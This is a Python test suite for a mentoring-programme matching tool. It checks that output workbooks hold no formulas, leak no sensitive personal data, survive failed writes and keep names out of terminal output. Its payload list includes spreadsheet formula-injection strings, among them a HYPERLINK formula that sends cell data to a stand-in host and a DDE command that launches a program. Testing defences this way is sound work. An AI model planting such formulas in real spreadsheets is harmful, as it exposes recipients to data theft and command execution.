"""Safe output, safe files, and quiet about people, for every bundled example.

* Applicant text that starts like a formula (=, +, -, @, tab, CR) goes through validate and
  match: every sheet of every written workbook holds no formula cell, and the text is shown as
  read, not escaped or changed.
* The sheets people read never carry special category data: no such column, no such answer.
* An existing output is kept without --force; a write that fails half-way leaves no workbook
  (and no temporary file); the inputs' bytes and modification times never change.
* At default verbosity the terminal shows counts, never an applicant's name or email; an
  unexpected internal error is one line (exit 1), and --debug shows a plain traceback without
  local variables.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from typer.testing import CliRunner, Result

from mentormatch.cli import app
from mentormatch.columns import resolve_columns
from mentormatch.load import load_table
from mentormatch.names import tidy_name
from mentormatch.normalise import clean_text
from mentormatch.pipeline import Source, validate_exports
from mentormatch.rulefile import Rules, load_rules
from tests.conftest import EXAMPLES, RULES

runner = CliRunner()

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
    "=1/0",
]
TEXT_TYPES = {"text", "choice", "multi", "organisation"}


@dataclass(frozen=True)
class Example:
    name: str
    rules: Path
    files: tuple[tuple[str | None, Path], ...]  # (role or None, export)
    extra: tuple[str, ...] = ()

    @property
    def loaded(self) -> Rules:
        return load_rules(self.rules)


EXAMPLE_LIST = [
    Example(
        "mind",
        RULES / "kent-medway-mind-2022.yaml",
        ((None, EXAMPLES / "kent-medway-mind-2022" / "applications.xlsx"),),
    ),
    Example(
        "nma",
        RULES / "kent-medway-nma-2023.yaml",
        ((None, EXAMPLES / "kent-medway-nma-2023" / "applications.csv"),),
    ),
    Example(
        "inclusion",
        RULES / "mentoring-for-inclusion-2018.yaml",
        ((None, EXAMPLES / "mentoring-for-inclusion-2018" / "applications.xlsx"),),
    ),
    Example(
        "hpma",
        RULES / "hpma-west-midlands.yaml",
        (
            ("mentor", EXAMPLES / "hpma-west-midlands" / "mentors.xlsx"),
            ("mentee", EXAMPLES / "hpma-west-midlands" / "mentees.xlsx"),
        ),
    ),
    Example(
        "lmp",
        RULES / "bme-leadership-lmp-2022.yaml",
        ((None, EXAMPLES / "bme-leadership-lmp-2022" / "applications.csv"),),
        ("--members", str(EXAMPLES / "bme-leadership-lmp-2022" / "members.csv")),
    ),
]


def source_args(files: Any) -> list[str]:
    args: list[str] = []
    for role, path in files:
        args += [str(path)] if role is None else ["--file", f"{role}={path}"]
    return args


# --- hostile copies of the examples ---------------------------------------------------------------


@dataclass
class Hostile:
    example: Example
    files: list[tuple[str | None, Path]]
    injected: dict[str, list[str]]  # field -> every value written


def targets(rules: Rules) -> list[str]:
    """Text answers people type: names, job titles, organisations, goals, choices."""
    skip = {"email", "submitted", rules.spec.role_field}
    return [n for n, f in rules.spec.fields.items() if f.type in TEXT_TYPES and n not in skip]


def inject(n: int, field: str, value: Any, k: int) -> str | None:
    """Every name and job title gets a payload; the k-th other answer one row in three, each
    on other rows (so enough people stay eligible to be paired)."""
    text = "" if value is None else str(value)
    if field not in {"name", "job_title"} and (n + k) % 3:
        return None
    payload = PAYLOADS[n % len(PAYLOADS)]
    return payload + (" " + text if text else "")


def make_hostile(example: Example, folder: Path) -> Hostile:
    rules = example.loaded
    injected: dict[str, list[str]] = {}
    files = []
    for role, path in example.files:
        table = load_table(path)
        columns = resolve_columns(table, rules)
        out = folder / path.name
        fields = [f for f in targets(rules) if f in columns.columns]
        if path.suffix == ".xlsx":
            wb = openpyxl.load_workbook(path)
            ws = wb[table.sheet or wb.sheetnames[0]]
            for row in table.rows:
                for k, field in enumerate(fields):
                    cell = ws.cell(row=row.number, column=columns.columns[field][0] + 1)
                    new = inject(row.number, field, cell.value, k)
                    if new is not None:
                        cell.value = new
                        cell.data_type = "s"  # typed text, as Forms stores it, not a formula
                        injected.setdefault(field, []).append(new)
            wb.save(out)
        else:
            encoding = table.encoding or "utf-8"
            records = list(csv.reader(io.StringIO(path.read_text(encoding=encoding), newline="")))
            for row in table.rows:
                record = records[row.number - 1]
                for k, field in enumerate(fields):
                    index = columns.columns[field][0]
                    new = inject(row.number, field, record[index] if index < len(record) else None, k)
                    if new is not None and index < len(record):
                        record[index] = new
                        injected.setdefault(field, []).append(new)
            buffer = io.StringIO()
            csv.writer(buffer, lineterminator="\r\n").writerows(records)
            out.write_text(buffer.getvalue(), encoding=encoding, newline="")
        files.append((role, out))
    return Hostile(example, files, injected)


# --- reading what was written -----------------------------------------------------------------------


def read_all(path: Path) -> dict[str, list[list[Any]]]:
    """Every sheet's rows (cell values); refuses any formula cell (data_type "f")."""
    wb = openpyxl.load_workbook(path, read_only=True)
    found = {}
    for ws in wb.worksheets:
        rows = [list(row) for row in ws.iter_rows()]
        formulas = [c.coordinate for row in rows for c in row if c.data_type == "f"]
        assert formulas == [], f"{path.name} sheet {ws.title}: formula cells {formulas[:5]}"
        found[ws.title] = [[c.value for c in row] for row in rows]
    wb.close()
    return found


def texts(sheets: dict[str, list[list[Any]]], names: set[str] | None = None) -> set[str]:
    return {
        v for title, rows in sheets.items() if names is None or title in names for row in rows for v in row
        if isinstance(v, str)
    }  # fmt: skip


def fingerprint(paths: list[Path]) -> list[tuple[str, int]]:
    return [(hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime_ns) for p in paths]


def ok(result: Result) -> Result:
    escaped = result.exception is not None and not isinstance(result.exception, SystemExit)
    assert not escaped, f"{type(result.exception).__name__}: {result.exception}"
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    return result


PEOPLE_SHEETS = {"Matches", "Unmatched", "Rejected", "Groups", "Unplaced", "Eligible", "Changes"}


# one hostile run per example, shared by the fixtures below (each runs it at most once)
RUNS: dict[str, dict[str, Any]] = {}


@pytest.fixture(scope="module", params=EXAMPLE_LIST, ids=lambda e: e.name)
def run(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    return hostile_run(request.param, tmp_path_factory)


def special_fields(rules: Rules) -> dict[str, Any]:
    return {name: f for name, f in rules.spec.fields.items() if f.special_category}


# the programmes whose forms ask a special category question (the others have nothing to leak)
SPECIAL_EXAMPLES = [e for e in EXAMPLE_LIST if special_fields(e.loaded)]


@pytest.fixture(scope="module", params=SPECIAL_EXAMPLES, ids=lambda e: e.name)
def special_run(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    return hostile_run(request.param, tmp_path_factory)


def hostile_run(example: Example, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Validate and match a hostile copy of one example; keep what was written and printed."""
    if example.name in RUNS:
        return RUNS[example.name]
    folder = tmp_path_factory.mktemp(example.name)
    hostile = make_hostile(example, folder)
    inputs = [p for _, p in hostile.files] + [example.rules]
    inputs += [Path(example.extra[1])] if example.extra else []
    before = fingerprint(inputs)
    sources = source_args(hostile.files)
    report, pairs = folder / "report.xlsx", folder / "pairs.xlsx"
    rules = ["--rules", str(example.rules), *example.extra]
    validated = ok(runner.invoke(app, ["validate", *sources, *rules, "-o", str(report)]))
    matched = ok(runner.invoke(app, ["match", *sources, *rules, "-o", str(pairs)]))
    after = fingerprint(inputs)
    members = None
    if example.extra:
        from mentormatch.pipeline import load_members

        members = load_members(Path(example.extra[1]))
    validation = validate_exports(
        [Source(p, role) for role, p in hostile.files], example.loaded, members=members
    )
    RUNS[example.name] = {
        "example": example,
        "hostile": hostile,
        "workbooks": {"report": read_all(report), "pairs": read_all(pairs)},
        "output": validated.output + matched.output,
        "before": before,
        "after": after,
        "applicants": validation.checked.applicants,
    }
    return RUNS[example.name]


def test_every_sheet_of_every_workbook_is_free_of_formulas(run: dict[str, Any]) -> None:
    # read_all has already refused any formula cell; check the payloads really went through.
    hostile: Hostile = run["hostile"]
    assert hostile.injected.get("name"), "no names were made hostile"
    for sheets in run["workbooks"].values():
        assert any(rows for rows in sheets.values())


def test_hostile_text_is_shown_as_read_not_changed(run: dict[str, Any]) -> None:
    hostile: Hostile = run["hostile"]
    for workbook, sheets in run["workbooks"].items():
        shown = texts(sheets)
        # Every applicant is listed by name in the report and in the pairs workbook, tidied as
        # the introduction emails show it (capitals for a name typed all in one case) and
        # otherwise as read.
        for name in hostile.injected["name"]:
            assert tidy_name(clean_text(name) or "") in shown, (workbook, name)
        # Nothing was escaped ("'=...") or otherwise rewritten into another value.
        for values in hostile.injected.values():
            for value in values:
                assert "'" + (clean_text(value) or "") not in shown


def test_job_titles_and_organisations_are_shown_as_read(run: dict[str, Any]) -> None:
    """Job titles show on the Eligible sheet (and Matches); organisations there or, when the
    programme does not list them, as the value seen on the Rejected sheet."""
    hostile: Hostile = run["hostile"]
    for workbook, sheets in run["workbooks"].items():
        shown = texts(sheets)
        for field in ("job_title", "organisation"):
            wanted = {clean_text(v) for v in hostile.injected.get(field, [])}
            if wanted:
                assert wanted & shown, (workbook, field)
    eligible = run["workbooks"]["report"]["Eligible"]
    if "Job title" in eligible[0]:
        column = eligible[0].index("Job title")
        hostile_titles = {clean_text(v) for v in hostile.injected["job_title"]}
        assert [row[column] for row in eligible[1:]] and all(
            row[column] in hostile_titles for row in eligible[1:]
        )


def test_the_special_category_check_covers_the_programmes_that_ask() -> None:
    # MIND asks ethnicity and gender; Mentoring for Inclusion four questions (their forms)
    asking = {e.rules.stem for e in SPECIAL_EXAMPLES}
    assert asking == {"kent-medway-mind-2022", "mentoring-for-inclusion-2018"}


def test_people_sheets_carry_no_special_category_data(special_run: dict[str, Any]) -> None:
    run = special_run
    example: Example = run["example"]
    special = special_fields(example.loaded)
    assert special
    words = {"ethnic", "gender", "disab", "sexual", "religio", "belief"}
    for name, spec in special.items():
        words |= {name.replace("_", " ").lower(), *(h.lower() for h in spec.headers)}
        if spec.label:
            words.add(spec.label.lower())
    answers = {
        value
        for person in run["applicants"]
        for field in special
        if (value := person.raw.get(field)) and value.strip().lower() not in {"yes", "no"}
    }
    assert answers, "the example gives no special category answers to look for"
    for workbook, sheets in run["workbooks"].items():
        for title, rows in sheets.items():
            if title not in PEOPLE_SHEETS or not rows:
                continue
            header = " | ".join(str(h).lower() for h in rows[0] if h)
            assert not [w for w in words if w in header], (workbook, title, header)
            cells = [str(v) for row in rows[1:] for v in row if v is not None]
            for answer in answers:
                short = len(answer) < 12  # "Woman" may be part of a longer word; match whole cells
                leaked = [c for c in cells if (c == answer if short else answer in c)]
                assert not leaked, (workbook, title, answer, leaked[:2])


def test_inputs_are_never_touched(run: dict[str, Any]) -> None:
    assert run["before"] == run["after"]


def test_terminal_shows_counts_not_people(run: dict[str, Any]) -> None:
    output: str = run["output"]
    assert "Rows read" in output
    for person in run["applicants"]:
        if person.email:
            assert person.email not in output.lower()
        raw = person.raw.get("email", "")
        if "@" in raw:
            assert raw.lower() not in output.lower()
        if person.name and len(person.name) >= 4:
            assert person.name not in output, person.name


# --- safe files -------------------------------------------------------------------------------------

MIND = EXAMPLE_LIST[0]
MIND_ARGS = [str(MIND.files[0][1]), "--rules", str(MIND.rules)]


@pytest.mark.parametrize("command", ["validate", "match"])
def test_existing_output_is_kept_without_force(command: str, tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    out.write_bytes(b"the coordinator's own workbook")
    stamp = out.stat().st_mtime_ns
    result = runner.invoke(app, [command, *MIND_ARGS, "-o", str(out)])
    assert result.exit_code == 1 and "--force" in result.output and "Traceback" not in result.output
    assert out.read_bytes() == b"the coordinator's own workbook" and out.stat().st_mtime_ns == stamp


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


@pytest.mark.parametrize("command", ["validate", "match"])
@pytest.mark.parametrize("existing", [False, True], ids=["new", "replacing"])
def test_a_write_that_fails_half_way_leaves_no_workbook(
    command: str, existing: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """openpyxl writes half the zip into the file, then the disk fills up."""
    from openpyxl.workbook.workbook import Workbook

    real_save = Workbook.save

    def half_save(self: Workbook, handle: Any) -> None:
        buffer = io.BytesIO()
        real_save(self, buffer)
        data = buffer.getvalue()
        handle.write(data[: len(data) // 2])
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Workbook, "save", half_save)
    out = tmp_path / "out.xlsx"
    if existing:
        out.write_bytes(b"last week's pairs")
    args = [command, *MIND_ARGS, "-o", str(out), *(["--force"] if existing else [])]
    result = runner.invoke(app, args)
    assert result.exit_code == 1, result.output
    assert "No space left on device" in result.output and "Traceback" not in result.output
    assert result.output.count("\n") <= 2
    if existing:
        assert out.read_bytes() == b"last week's pairs"
    else:
        assert not out.exists()
    assert leftovers(tmp_path) == []  # the temporary file is gone too


@pytest.mark.parametrize(
    "error", [RuntimeError("writer broke"), KeyboardInterrupt()], ids=["error", "ctrl-c"]
)
def test_an_interrupted_write_leaves_no_workbook(
    error: BaseException, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The writer stops after a few rows (a bug, or Ctrl+C): nothing half-written is left."""
    from mentormatch import workbook

    real_emit = workbook.emit_row
    calls = {"n": 0}

    def failing_emit(*args: Any, **kwargs: Any) -> None:
        calls["n"] += 1
        if calls["n"] == 10:
            raise error
        real_emit(*args, **kwargs)

    monkeypatch.setattr(workbook, "emit_row", failing_emit)
    out = tmp_path / "pairs.xlsx"
    result = runner.invoke(app, ["match", *MIND_ARGS, "-o", str(out)])
    assert calls["n"] >= 10
    assert result.exit_code != 0
    assert "Traceback" not in result.output
    assert not out.exists()
    assert leftovers(tmp_path) == []


def test_the_examples_themselves_are_never_touched(tmp_path: Path) -> None:
    inputs = [p for e in EXAMPLE_LIST for _, p in e.files] + [e.rules for e in EXAMPLE_LIST]
    before = fingerprint(inputs)
    for example in EXAMPLE_LIST:
        args = [*source_args(example.files), "--rules", str(example.rules), *example.extra]
        ok(runner.invoke(app, ["validate", *args, "-o", str(tmp_path / f"{example.name}-report.xlsx")]))
        ok(runner.invoke(app, ["match", *args, "-o", str(tmp_path / f"{example.name}-pairs.xlsx")]))
    assert fingerprint(inputs) == before


# --- quiet about people -------------------------------------------------------------------------------


def mind_people() -> list[str]:
    checked = validate_exports([Source(MIND.files[0][1])], MIND.loaded).checked
    found = [a.email for a in checked.applicants if a.email]
    return found + [a.name for a in checked.applicants if len(a.name) >= 4]


BOOM = """
import sys
import mentormatch.{module} as target

def boom(*args, **kwargs):
    raise RuntimeError("internal failure")

target.{name} = boom
from mentormatch.cli import main
sys.argv = ["mentormatch", *sys.argv[1:]]
main()
"""


@pytest.mark.parametrize(
    ("command", "module", "name"),
    [("validate", "pipeline", "check_applicants"), ("match", "matching", "match_pairs")],
)
def test_an_unexpected_error_is_one_line_and_debug_shows_no_locals(
    command: str, module: str, name: str, tmp_path: Path
) -> None:
    code = BOOM.format(module=module, name=name)
    out = tmp_path / "out.xlsx"
    args = [sys.executable, "-c", code]
    env = {**os.environ, "COLUMNS": "200", "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    plain = subprocess.run(
        [*args, command, *MIND_ARGS, "-o", str(out)], capture_output=True, text=True, env=env
    )
    assert plain.returncode == 1
    assert plain.stdout == ""
    lines = plain.stderr.strip().splitlines()
    assert len(lines) == 1 and "failed unexpectedly (RuntimeError)" in lines[0], plain.stderr
    assert "Traceback" not in plain.stderr and "internal failure" not in plain.stderr

    debug = subprocess.run(
        [*args, "--debug", command, *MIND_ARGS, "-o", str(out)], capture_output=True, text=True, env=env
    )
    assert debug.returncode == 1
    assert "Traceback (most recent call last)" in debug.stderr
    assert "RuntimeError: internal failure" in debug.stderr
    assert "locals" not in debug.stderr.lower() and "╭" not in debug.stderr  # a plain traceback
    people = mind_people()
    assert not [p for p in people if p in debug.stderr + debug.stdout]
    assert not out.exists()


def test_an_unexpected_error_through_the_runner(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    import mentormatch.matching as matching  # the CLI imports match_pairs from here when it runs

    def boom(*args: Any, **kwargs: Any) -> Any:
        raise ValueError("ann.example@nhs.net broke it")  # a message with data is not shown

    monkeypatch.setattr(matching, "match_pairs", boom)
    result = runner.invoke(app, ["match", *MIND_ARGS, "-o", str(tmp_path / "out.xlsx")])
    assert result.exit_code == 1
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: mentormatch failed unexpectedly (ValueError).")
    assert "ann.example" not in result.output
